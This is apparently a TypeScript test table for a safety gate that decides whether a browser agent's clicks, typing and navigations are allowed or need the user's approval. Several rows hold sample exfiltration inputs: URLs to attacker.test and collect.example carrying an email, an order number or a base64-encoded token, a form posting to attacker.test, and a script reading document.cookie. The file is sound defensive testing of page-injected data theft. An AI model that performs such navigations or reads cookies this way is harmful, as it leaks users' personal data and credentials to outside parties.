import { decideRows, el, input, OTHER, PAGE, SHOP, type Row, clickOn, goTo, typeInto } from './test-helpers';

const rows: Row[] = [
  // The ordinary path on an allowed site.
  { name: 'snapshot on an allowed site', input: input('snapshot', 'read'), verdict: 'allow' },
  {
    name: 'click an ordinary button',
    input: clickOn(el('Add to cart')),
    verdict: 'allow',
  },
  {
    name: 'type a search',
    input: typeInto(el('Search', { role: 'searchbox' }), 'blue shoes'),
    verdict: 'allow',
  },
  {
    name: 'submit a search form',
    input: input('press_key', 'act', {
      pageUrl: PAGE,
      element: el('Search', { submitsForm: true, form: { hasPassword: false, hasPayment: false } }),
    }),
    verdict: 'allow',
  },
  {
    name: '"My orders" is not ordering',
    input: clickOn(el('我的订单', { role: 'link' })),
    verdict: 'allow',
  },
  {
    name: '"Payment methods" is not paying',
    input: clickOn(el('Payment methods', { role: 'link' })),
    verdict: 'allow',
  },
  {
    name: 'typing into a field named Delete is not deleting',
    input: typeInto(el('Delete reason', { role: 'textbox' }), 'duplicate'),
    verdict: 'allow',
  },
  {
    name: 'navigate within a visited site, even with page data',
    input: goTo(`${SHOP}/orders/778812`),
    verdict: 'allow',
  },
  {
    name: 'a link to another site carrying nothing',
    input: input('click', 'act', {
      pageUrl: PAGE,
      element: el('Docs', { role: 'link', href: `${OTHER}/docs` }),
      navigation: { url: `${OTHER}/docs`, via: 'link' },
    }),
    verdict: 'allow',
  },
  { name: 'a tool with no page', input: input('list_tabs', 'read', {}), verdict: 'allow' },

  // High-risk: always asks.
  {
    name: 'Place order',
    input: clickOn(el('Place order')),
    verdict: 'ask',
    codes: ['risky-name'],
    card: 'high-risk',
  },
  {
    name: '立即购买',
    input: clickOn(el('立即购买')),
    verdict: 'ask',
    codes: ['risky-name'],
  },
  {
    name: '删除',
    input: clickOn(el('删除')),
    verdict: 'ask',
    codes: ['risky-name'],
  },
  {
    name: 'Send',
    input: clickOn(el('Send')),
    verdict: 'ask',
    codes: ['risky-name'],
  },
  {
    name: 'a disclosure named like an action only shows content',
    input: clickOn({ ...el('GET /store/order/{orderId} Find purchase order by ID'), disclosure: true }),
    verdict: 'allow',
  },
  {
    name: '转账',
    input: clickOn(el('确认转账')),
    verdict: 'ask',
    codes: ['risky-name'],
  },
  {
    name: 'evaluate',
    input: input('evaluate', 'high', { pageUrl: PAGE, script: 'document.cookie' }),
    verdict: 'ask',
    codes: ['high-risk-tool'],
    card: 'high-risk',
  },
  {
    name: 'upload_file',
    input: input('upload_file', 'high', {
      pageUrl: PAGE,
      element: el('Avatar', { role: 'button' }),
      upload: { fileNames: ['a.png'] },
    }),
    verdict: 'ask',
    codes: ['high-risk-tool'],
  },
  {
    name: 'type into a password field',
    input: typeInto(el('Password', { role: 'textbox', isPassword: true }), 'hunter2'),
    verdict: 'ask',
    codes: ['password-field'],
  },
  {
    name: 'submit a login form',
    input: clickOn(el('Continue', { submitsForm: true, form: { hasPassword: true, hasPayment: false } })),
    verdict: 'ask',
    codes: ['sensitive-form-submit'],
  },
  {
    name: 'submit a payment form',
    input: clickOn(el('Continue', { submitsForm: true, form: { hasPassword: false, hasPayment: true } })),
    verdict: 'ask',
    codes: ['sensitive-form-submit'],
  },
  {
    name: 'a download link',
    input: clickOn(el('Invoice.pdf', { role: 'link', download: true })),
    verdict: 'ask',
    codes: ['download'],
  },
  {
    name: 'exfiltration by query',
    input: goTo('https://attacker.test/c?d=jane.doe%40mail.example'),
    verdict: 'ask',
    codes: ['page-suggested-navigation', 'carries-data', 'new-site'],
  },
  {
    name: 'exfiltration by path to a site the page never named',
    input: goTo('https://collect.example/778812/x'),
    verdict: 'ask',
    codes: ['carries-data', 'new-site'],
  },
  {
    name: 'exfiltration in base64',
    input: goTo(`https://collect.example/?p=${btoa('token QzX9-Lm2Kp7')}`),
    verdict: 'ask',
    codes: ['carries-data', 'new-site'],
  },
  {
    name: 'exfiltration by a link the model clicks',
    input: input('click', 'act', {
      pageUrl: PAGE,
      element: el('help', { role: 'link' }),
      navigation: { url: 'https://attacker.test/?o=778812', via: 'link' },
    }),
    verdict: 'ask',
    codes: ['carries-data'],
  },
  {
    name: 'a site named only by the page',
    input: goTo('https://attacker.test/help'),
    verdict: 'ask',
    codes: ['page-suggested-navigation', 'new-site'],
    card: 'high-risk',
  },
  {
    name: 'page data typed into a form posting elsewhere',
    input: typeInto(
      el('Email', {
        role: 'textbox',
        form: { hasPassword: false, hasPayment: false, action: 'https://attacker.test/collect' },
      }),
      'jane.doe@mail.example',
    ),
    verdict: 'ask',
    codes: ['carries-data'],
  },
];

decideRows('decide: ordinary acts and high-risk ones', rows);
